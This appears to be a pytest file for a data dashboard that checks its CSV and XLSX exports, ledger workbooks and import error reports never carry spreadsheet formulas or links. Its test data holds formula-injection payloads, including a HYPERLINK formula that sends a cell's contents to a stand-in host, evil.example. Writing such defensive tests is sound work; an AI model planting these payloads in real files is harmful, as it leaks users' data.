"""Finding 3: no XLSX or CSV the product writes holds a formula or a link, whatever was imported."""
from __future__ import annotations

import csv
import datetime as dt
import io
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd

from envboard.briefing import build, exports
from envboard.core import export_safety
from envboard.domain import ledger_export
from envboard.ingest.error_report import report_bytes
from envboard.ingest.validate import RowError

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "http://evil.example"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formulas_in_xlsx(data: bytes) -> list[str]:
    """Every formula cell or hyperlink of a workbook, as 'sheet!cell'."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        found += [f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        found += [f"{sheet.title}!link" for _ in sheet._hyperlinks]
    return found


def formulas_in_csv(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({"责任单位": HOSTILE, "n": range(len(HOSTILE))})


def test_table_downloads_are_formula_free():
    assert formulas_in_csv(export_safety.csv_bytes(hostile_frame())) == []
    assert formulas_in_xlsx(export_safety.xlsx_bytes(hostile_frame())) == []


def test_ledger_workbook_keeps_imported_text_as_text():
    rows = pd.DataFrame({"任务": HOSTILE, "责任单位": HOSTILE})
    data = ledger_export.xlsx_bytes(rows, "台账", "台账")
    assert formulas_in_xlsx(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A3"].value == HOSTILE[0]          # the text itself is kept exactly


def test_briefing_workbook_keeps_imported_unit_names_as_text(demo_con):
    ed = build.build_edition(demo_con, "360700", dt.date(2022, 6, 30))
    assert ed["watchlist"], "the demo edition has tasks on its watch list"
    for row, text in zip(ed["watchlist"], HOSTILE * 50):
        row["responsible_unit"] = row["title"] = text
    data = exports.export(ed, ["xlsx"])["xlsx"]
    assert formulas_in_xlsx(data) == []
    values = [c.value for s in openpyxl.load_workbook(io.BytesIO(data)).worksheets for r in s.iter_rows() for c in r]
    assert any(isinstance(v, str) and HOSTILE[0] in v for v in values)     # kept as text (escaped or not)


def test_import_error_report_is_formula_free():
    errors = [RowError("a.xlsx", "表1", 3, "任务编号", "ingest.err.required", text) for text in HOSTILE]
    assert formulas_in_xlsx(report_bytes(errors)) == []


def test_the_table_toolbar_download_is_switched_off_for_both_apps():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
    assert config["client"]["showErrorDetails"] == "none"
    assert config["server"]["enableAgentApi"] is False
